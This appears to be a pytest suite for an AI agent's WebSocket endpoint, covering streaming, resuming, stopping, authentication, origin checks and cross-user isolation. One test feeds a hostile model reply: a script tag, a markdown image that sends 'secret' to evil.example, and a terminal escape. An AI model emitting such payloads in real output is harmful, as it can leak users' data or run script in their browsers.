"""Talking with the agent over its socket: what is said, streamed, stopped, resumed and decided."""

import asyncio
import contextlib
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
from fastapi import FastAPI
from httpx2 import AsyncClient
from sqlalchemy import func, insert, select
from websockets.exceptions import ConnectionClosed, InvalidStatus

from questlog.api import agent_talk
from questlog.api.sockets import line
from questlog.coach import speaking
from questlog.coach.conversations import CONVERSATIONS, MESSAGES, PARTS, RUNS
from questlog.core import clock
from questlog.core.config import Settings
from questlog.core.db import Database, Session
from questlog.core.ids import new_id
from questlog.planning.models import Task
from tests.support import peers, world
from tests.support.canaries import Canaries
from tests.support.doors import bearer, register
from tests.support.make import Make, Person
from tests.support.model_server import (
    ModelServer,
    Reply,
    calling,
    failing,
    model_server,
    saying,
)
from tests.support.peers import House, Message, Peer, until

AGENT = "/ws/agent"
ENDS = {"complete", "error"}


@pytest.fixture
async def model() -> AsyncIterator[ModelServer]:
    async with model_server() as server:
        yield server


@pytest.fixture
def settings(
    database_address: str, tmp_path: Path, canaries: Canaries, model: ModelServer
) -> Settings:
    settings = world.settings(
        database_address,
        tmp_path,
        LLM_MODEL="openai/gpt-4o-mini",
        LLM_API_KEY="the-key-of-the-model",
        LLM_API_BASE=model.url,
    )
    canaries.learn_settings(settings)
    return settings


@pytest.fixture
async def house(app: FastAPI) -> AsyncIterator[House]:
    async with peers.house(app) as house:
        yield house
        await app.state.thinker.close()


def at(house: House, user: Person | None = None, **more: Any) -> Any:
    return house.peer(user, path=AGENT, **more)


async def run_of(peer: Peer) -> list[Message]:
    """Return what is told up to the end of a run."""
    told = [await peer.next()]
    while told[-1]["type"] not in ENDS:
        told.append(await peer.next())
    return told


async def up_to(peer: Peer, type_: str) -> list[Message]:
    told = [await peer.next()]
    while told[-1]["type"] != type_:
        told.append(await peer.next())
    return told


def said_in(told: list[Message]) -> str:
    return "".join(one["data"]["text"] for one in told if one["type"] == "text_delta")


async def count(database: Database, *what: Any) -> int:
    async with database.reader() as session:
        return int(await session.scalar(select(func.count()).where(*what)) or 0)


async def states(database: Database, user: Person) -> list[str]:
    async with database.reader() as session:
        mine = select(RUNS.c.state).where(RUNS.c.user_id == user.id).order_by(RUNS.c.id)
        return list(await session.scalars(mine))


async def settled(database: Database) -> None:
    """Wait until nothing is thought any more."""
    for _ in range(200):
        if not await count(database, RUNS.c.state == "running"):
            return
        await asyncio.sleep(0.05)
    raise AssertionError("a run has no end")


async def add_much(database: Database, user: Person, run_id: UUID, megabytes: int) -> None:
    async def add(session: Session) -> None:
        for seq in range(100, 100 + megabytes * 60):
            data = {"text": "x" * 17_000}
            row = {"run_id": run_id, "seq": seq, "user_id": user.id, "type": "text_delta"}
            await session.execute(insert(PARTS).values(**row, data=data, created_at=clock.now()))

    await database.write(add)


async def test_an_answer_comes_piece_by_piece(house: House, model: ModelServer, make: Make) -> None:
    user = await make.user()
    model.replies = [saying("Good ", "morning", ".")]

    async with at(house, user) as peer:
        await peer.say({"type": "message", "message": "Hello"})
        told = await run_of(peer)

    assert [one["type"] for one in told] == [
        "conversation_created",
        "user_prompt",
        "model_request_start",
        "part_start",
        "text_delta",
        "text_delta",
        "text_delta",
        "final_result_start",
        "final_result",
        "message_saved",
        "complete",
    ]
    assert [one["seq"] for one in told] == list(range(1, len(told) + 1))
    assert len({one["run_id"] for one in told}) == 1
    assert told[1]["data"]["prompt"] == "Hello"
    assert said_in(told) == "Good morning." == told[8]["data"]["text"]


async def test_what_is_said_next_goes_on_in_the_same_conversation(
    house: House, model: ModelServer, make: Make, database: Database
) -> None:
    user = await make.user()

    async with at(house, user) as peer:
        await peer.say({"message": "One"})
        first = await run_of(peer)
        await peer.say({"message": "Two"})
        second = await run_of(peer)
        await peer.say({"message": "Three", "conversation_id": None})
        third = await run_of(peer)

    assert first[0]["type"] == third[0]["type"] == "conversation_created"
    assert second[0]["type"] == "user_prompt"
    assert second[0]["data"]["conversation_id"] == first[0]["data"]["conversation_id"]
    assert await count(database, CONVERSATIONS.c.user_id == user.id) == 2
    assert await count(database, MESSAGES.c.user_id == user.id) == 6
    earlier = [one["content"] for one in model.requests[1]["messages"] if one["role"] != "system"]
    assert earlier == ["One", "Well.", "Two"]


@pytest.mark.parametrize("path", ["/ws/agent", "/api/ws/agent", "/api/v1/ws/agent"])
async def test_the_printed_addresses_lead_there(path: str, house: House, make: Make) -> None:
    user = await make.user()

    async with house.peer(user, path=path) as peer:
        await peer.say({"type": "ping"})
        told = await peer.next()

    assert told == {"type": "pong", "data": {}, "run_id": None, "seq": None}


async def test_s118_nobody_talks_without_saying_who_they_are(house: House) -> None:
    told = []

    async with at(house) as peer:
        await peer.say({"message": "Hello"})
        told.append(await peer.next())
        code, reason = await peer.end()

    assert (code, reason) == (4401, "not_authenticated")
    assert told[0]["data"]["code"] == "not_authenticated"
    assert told[0]["run_id"] is None


async def test_s118_no_address_carries_a_token(house: House, make: Make) -> None:
    user = await make.user()
    token = user.headers["Authorization"].partition(" ")[2]

    with pytest.raises(InvalidStatus) as refusal:
        async with house.peer(path=f"{AGENT}?token={token}") as peer:
            await peer.next()

    assert refusal.value.response.status_code == 400


async def test_s118_a_ticket_or_a_first_message_lets_in(
    house: House, client: AsyncClient, make: Make
) -> None:
    user = await make.user()
    token = user.headers["Authorization"].partition(" ")[2]
    answer = await client.post("/api/v1/ws/tickets", headers=user.headers)
    ticket = answer.json()["ticket"]

    async with at(house, protocols=[peers.PROTOCOL, f"ticket.{ticket}"]) as peer:
        await peer.say({"message": "Hello"})
        by_ticket = await run_of(peer)
    async with at(house) as peer:
        await peer.say({"type": "auth", "token": token})
        await peer.say({"message": "Hello"})
        by_message = await run_of(peer)

    assert by_ticket[-1]["type"] == by_message[-1]["type"] == "complete"


async def test_s119_a_page_of_somebody_elses_is_refused(house: House, make: Make) -> None:
    user = await make.user()

    with pytest.raises(InvalidStatus) as refusal:
        async with at(house, user, origin="https://evil.example") as peer:
            await peer.next()

    assert refusal.value.response.status_code == 403


async def test_a_key_does_not_decide_for_its_owner(
    house: House, client: AsyncClient, make: Make
) -> None:
    user = await make.user()
    body = {"name": "program", "scopes": ["tasks:write", "events:read"]}
    made = await client.post("/api/v1/api-keys", json=body, headers=user.headers)

    end = await house.ending(path=AGENT, headers={"X-API-Key": made.json()["key"]})

    assert end == (4403, "sign_in_required")


ODD = [
    {},
    {"type": "message"},
    {"type": "message", "message": " "},
    {"type": "message", "message": "x" * 20_001},
    {"type": "message", "message": 7},
    {"type": "message", "message": "x", "conversation_id": "7"},
    {"type": "message", "message": "x", "user_id": str(new_id())},
    {"message": "x", "model": "gpt-9"},
    {"type": "resume"},
    {"type": "resume", "run_id": str(new_id()), "since": -1},
    {"type": "resume", "run_id": str(new_id()), "since": True},
    {"type": "decision", "proposal_id": str(new_id())},
    {"type": "decision", "proposal_id": str(new_id()), "accept": "yes"},
    {"type": "decision", "proposal_id": str(new_id()), "accept": True},
    {"type": "stop"},
    {"type": "stop", "run_id": str(new_id())},
    {"type": "delete_all"},
    {"type": ["message"], "message": "x"},
    {"type": {"a": 1}},
]


async def test_s120_odd_messages_are_answered_and_forgiven(
    house: House, make: Make, database: Database
) -> None:
    user = await make.user()

    async with at(house, user) as peer:
        for message in ODD:
            await peer.say(message)
        await peer.say("{")
        told = await peer.some(len(ODD) + 1)
        await peer.say({"message": "Hello"})
        answered = await run_of(peer)

    assert {one["type"] for one in told} == {"error"}
    assert all(one["data"]["code"] and one["data"]["detail"] for one in told)
    assert told[-1]["data"]["code"] == "malformed_json"
    assert answered[-1]["type"] == "complete"
    assert await count(database, RUNS.c.user_id == user.id) == 1


async def test_s120_the_sixth_socket_is_one_too_many(house: House, make: Make) -> None:
    user = await make.user()

    async with contextlib.AsyncExitStack() as stack:
        for _ in range(5):
            peer = await stack.enter_async_context(at(house, user))
            await peer.say({"type": "ping"})
            await peer.next()
        end = await house.ending(user, path=AGENT)

    assert end == (4429, "too_many_connections")


async def test_s121_who_never_reads_is_hung_up_on_and_the_run_goes_on(
    house: House,
    model: ModelServer,
    make: Make,
    database: Database,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    within = line.SEND_WITHIN_S
    monkeypatch.setattr(line, "SEND_WITHIN_S", 0.3)
    user = await make.user()
    model.replies = [saying("Well"), saying(*["slowly "] * 20, pause=0.1)]

    async with at(house, user, compression=None) as peer:
        await peer.say({"message": "Hello"})
        told = await run_of(peer)
        await add_much(database, user, UUID(told[0]["run_id"]), 16)
        await peer.say({"message": "Think"})
        await up_to(peer, "text_delta")
        peer.connection.transport.pause_reading()
        await peer.say({"type": "resume", "run_id": told[0]["run_id"]})
        took = await until(lambda: not house.app.state.seating.taken().get("agent"))
        peer.connection.transport.abort()
    await settled(database)

    assert took < 5
    assert within == 10
    assert await states(database, user) == ["complete", "complete"]
    whole = (MESSAGES.c.content == "slowly " * 20, MESSAGES.c.state == "complete")
    assert await count(database, *whole) == 1


async def test_s122_what_belongs_to_somebody_else_is_not_there(
    house: House, model: ModelServer, make: Make, database: Database
) -> None:
    owner, stranger = await make.user(), await make.user()
    model.replies = [calling("create_task", {"title": "Mine"}), saying("Proposed.")]
    async with at(house, owner) as peer:
        await peer.say({"message": "My secret plan"})
        told = await run_of(peer)
    conversation = told[0]["data"]["conversation_id"]
    proposal = next(one["data"]["id"] for one in told if one["type"] == "proposal")

    async with at(house, stranger) as peer:
        await peer.say({"message": "Hello", "conversation_id": conversation})
        await peer.say({"type": "resume", "run_id": told[0]["run_id"]})
        await peer.say({"type": "resume", "conversation_id": conversation})
        await peer.say({"type": "stop", "run_id": told[0]["run_id"]})
        await peer.say({"type": "decision", "proposal_id": proposal, "accept": True})
        await peer.say({"type": "decision", "proposal_id": proposal, "accept": False})
        answers = await peer.some(6)

    assert [one["data"]["code"] for one in answers] == [
        "conversation_not_found",
        "run_not_found",
        "run_not_found",
        "run_not_found",
        "proposal_not_found",
        "proposal_not_found",
    ]
    assert "secret" not in str(answers)
    assert await count(database, MESSAGES.c.user_id == stranger.id) == 0
    assert await count(database, MESSAGES.c.user_id == owner.id) == 2
    assert await count(database, Task.user_id == owner.id) == 0


async def test_s123_who_is_signed_out_hears_no_more_and_the_run_goes_on(
    house: House, client: AsyncClient, model: ModelServer, database: Database
) -> None:
    tokens = await register(client)
    model.replies = [saying(*"abcdefghijklmnopqrstuvwxyz" * 4, pause=0.05)]

    async with house.peer(path=AGENT, headers=bearer(tokens)) as peer:
        await peer.say({"message": "Spell"})
        await up_to(peer, "text_delta")
        await client.post("/api/v1/auth/logout", headers=bearer(tokens), json={})
        late = []
        with contextlib.suppress(ConnectionClosed):
            while True:
                late.append(await peer.next())
        code = peer.connection.close_code

    assert code == 4401
    assert late[-1]["data"]["code"] == "session_ended"
    assert sum(one["type"] == "text_delta" for one in late) < 3
    await settled(database)
    assert await count(database, RUNS.c.state == "complete") == 1


async def test_s127_what_a_model_writes_is_text(
    house: House, model: ModelServer, make: Make, database: Database
) -> None:
    user = await make.user()
    hostile = "<script>alert(1)</script> ![](https://evil.example/?q=secret) \x1b[2J"
    model.replies = [saying(hostile)]

    async with at(house, user) as peer:
        await peer.say({"message": "Hello"})
        told = await run_of(peer)

    assert said_in(told) == hostile
    async with database.reader() as session:
        kept = await session.scalar(
            select(MESSAGES.c.content).where(MESSAGES.c.role == "assistant")
        )
    assert kept == hostile


async def test_s129_a_run_outlives_its_socket_and_is_resumed_without_a_gap(
    house: House, model: ModelServer, make: Make
) -> None:
    user = await make.user()
    letters = "abcdefghijklmnopqrstuvwxyz"
    model.replies = [saying(*letters, pause=0.03)]

    async with at(house, user) as peer:
        await peer.say({"message": "Spell"})
        heard = await up_to(peer, "text_delta")
        heard += await peer.some(3)
    await asyncio.sleep(0.3)
    async with at(house, user) as peer:
        last = heard[-1]
        await peer.say({"type": "resume", "run_id": last["run_id"], "since": last["seq"]})
        heard += await run_of(peer)

    assert said_in(heard) == letters
    assert [one["seq"] for one in heard] == list(range(1, len(heard) + 1))


async def test_s129_what_has_ended_is_told_again_from_any_number(
    house: House, model: ModelServer, make: Make
) -> None:
    user = await make.user()
    model.replies = [saying("Good ", "morning", ".")]
    async with at(house, user) as peer:
        await peer.say({"message": "Hello"})
        told = await run_of(peer)

    async with at(house, user) as peer:
        await peer.say({"type": "resume", "run_id": told[0]["run_id"]})
        whole = await run_of(peer)
        where = told[0]["data"]["conversation_id"]
        await peer.say({"type": "resume", "conversation_id": where, "since": 6})
        rest = await run_of(peer)

    assert whole == told
    assert rest == told[6:]


async def test_s129_stopping_ends_the_request_to_the_model_within_two_seconds(
    house: House, model: ModelServer, make: Make, database: Database
) -> None:
    user = await make.user()
    model.replies = [saying("Let ", "me ", "see", stalls=15)]

    async with at(house, user) as peer:
        await peer.say({"message": "Think"})
        await up_to(peer, "text_delta")
        await peer.some(2)
        await peer.say({"type": "stop"})
        took = await until(lambda: model.hung_up == 1)
        told = await run_of(peer)
        await peer.say({"type": "stop", "run_id": told[0]["run_id"]})
        await peer.say({"message": "Go on"})
        again = await run_of(peer)

    assert took < 2
    assert [one["type"] for one in told] == ["message_saved", "complete"]
    assert told[-1]["data"]["state"] == "interrupted"
    assert again[-1]["type"] == "complete"
    kept = (MESSAGES.c.role == "assistant", MESSAGES.c.state == "interrupted")
    assert await count(database, *kept, MESSAGES.c.content == "Let me see") == 1
    assert await count(database, *kept) == 1


async def test_a_run_begun_on_one_device_is_seen_on_another(
    house: House, model: ModelServer, make: Make
) -> None:
    user = await make.user()

    async with at(house, user) as desk, at(house, user) as phone:
        await desk.say({"message": "One"})
        first = await run_of(desk)
        where = first[0]["data"]["conversation_id"]
        await phone.say({"type": "resume", "conversation_id": where})
        caught_up = await run_of(phone)
        await desk.say({"message": "Two"})
        on_desk, on_phone = await run_of(desk), await run_of(phone)

    assert caught_up == first
    assert on_desk == on_phone
    assert on_phone[0]["data"]["prompt"] == "Two"


async def test_a_run_that_another_process_begins_is_seen_soon(
    house: House, model: ModelServer, make: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(agent_talk, "RECHECK_S", 0.1)
    monkeypatch.setattr(agent_talk.Talks, "tell", lambda *_: None)
    user = await make.user()
    model.replies = [saying("One"), saying("T", "w", "o", pause=0.2)]

    async with at(house, user) as desk, at(house, user) as phone:
        await desk.say({"message": "One"})
        first = await run_of(desk)
        await phone.say({"type": "resume", "run_id": first[0]["run_id"]})
        await run_of(phone)
        await desk.say({"message": "Two"})
        on_phone = await run_of(phone)
        on_desk = await run_of(desk)

    assert on_desk == on_phone


async def test_s125_a_proposal_is_decided_once_and_from_any_device(
    house: House, model: ModelServer, make: Make, database: Database
) -> None:
    user = await make.user()
    model.replies = [calling("create_task", {"title": "Buy milk"}), saying("I propose it.")]

    async with at(house, user) as desk, at(house, user) as phone:
        await desk.say({"message": "Remind me of milk"})
        told = await run_of(desk)
        proposal = next(one["data"] for one in told if one["type"] == "proposal")
        before = await count(database, Task.user_id == user.id)
        decision = {"type": "decision", "proposal_id": proposal["id"], "accept": True}
        await phone.say(decision)
        done = await phone.next()
        await desk.say(decision)
        late = await desk.next()

    assert before == 0
    assert proposal["state"] == "open"
    assert (done["type"], done["data"]["state"]) == ("proposal", "accepted")
    assert done["run_id"] == told[0]["run_id"]
    assert (late["type"], late["data"]["code"]) == ("error", "proposal_decided")
    assert late["data"]["answer_to"] == {"type": "decision", "proposal_id": proposal["id"]}
    assert await count(database, Task.user_id == user.id, Task.title == "Buy milk") == 1


async def test_a_rejected_proposal_changes_nothing(
    house: House, model: ModelServer, make: Make, database: Database
) -> None:
    user = await make.user()
    model.replies = [calling("create_task", {"title": "Buy milk"}), saying("I propose it.")]

    async with at(house, user) as peer:
        await peer.say({"message": "Remind me of milk"})
        told = await run_of(peer)
        proposal = next(one["data"] for one in told if one["type"] == "proposal")
        await peer.say({"type": "decision", "proposal_id": proposal["id"], "accept": False})
        done = await peer.next()

    assert done["data"]["state"] == "rejected"
    assert await count(database, Task.user_id == user.id) == 0


async def test_one_conversation_answers_one_thing_at_a_time(
    house: House, model: ModelServer, make: Make
) -> None:
    user = await make.user()
    model.replies = [saying("Wait", stalls=1)]

    async with at(house, user) as peer:
        await peer.say({"message": "One"})
        await up_to(peer, "text_delta")
        await peer.say({"message": "Two"})
        refused = await up_to(peer, "error")
        rest = await run_of(peer)

    assert refused[-1]["data"]["code"] == "run_in_progress"
    assert rest[-1]["type"] == "complete"


async def test_s128_only_so_many_runs_at_once(
    house: House, model: ModelServer, make: Make, database: Database
) -> None:
    user = await make.user()
    model.otherwise = lambda _body: saying("Wait", stalls=2)

    async with at(house, user) as peer:
        for _ in range(speaking.RUNS_AT_ONCE + 1):
            await peer.say({"message": "Think", "conversation_id": None})
        told = await up_to(peer, "error")
        running = await count(database, RUNS.c.state == "running")

    assert told[-1]["data"]["code"] == "too_many_runs"
    assert told[-1]["data"]["retryable"]
    assert running == speaking.RUNS_AT_ONCE


@pytest.mark.parametrize(
    ("reply", "trouble", "retryable"),
    [
        (failing(500), "unavailable", True),
        (failing(429), "rate_limited", True),
        (failing(401, "bad key the-key-of-the-model"), "refused", False),
        (saying("Half", breaks=True), "unreachable", True),
    ],
)
async def test_f26_a_model_in_trouble_is_told_and_the_conversation_goes_on(
    reply: Reply, trouble: str, retryable: bool, house: House, model: ModelServer, make: Make
) -> None:
    user = await make.user()
    model.replies = [reply]

    async with at(house, user) as peer:
        await peer.say({"message": "Hello"})
        told = await run_of(peer)
        await peer.say({"message": "Once more"})
        again = await run_of(peer)

    assert told[-1]["type"] == "error"
    assert told[-1]["data"]["retryable"] is retryable
    assert told[-1]["data"]["code"] == "model_unavailable"
    assert told[-1]["data"]["trouble"] == trouble
    assert ("try again" in told[-1]["data"]["detail"]) is retryable
    assert "the-key-of-the-model" not in str(told)
    assert again[-1]["type"] == "complete"
